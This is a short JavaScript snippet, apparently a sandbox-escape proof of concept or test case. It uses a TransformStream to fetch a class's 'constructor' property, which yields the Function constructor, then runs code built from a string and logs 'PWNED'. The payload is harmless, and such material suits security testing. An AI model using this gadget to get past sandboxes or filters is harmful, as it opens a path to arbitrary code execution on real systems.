// A web transform hands out what a key found.
class Bus {}
const key = 'constructor';
const s = new TransformStream({ transform([o, k], c) { c.enqueue(o[k]); } });
s.writable.getWriter().write([Bus, key]);
s.readable.getReader().read().then(({ value }) => console.log('PWNED', value('return 1')()));
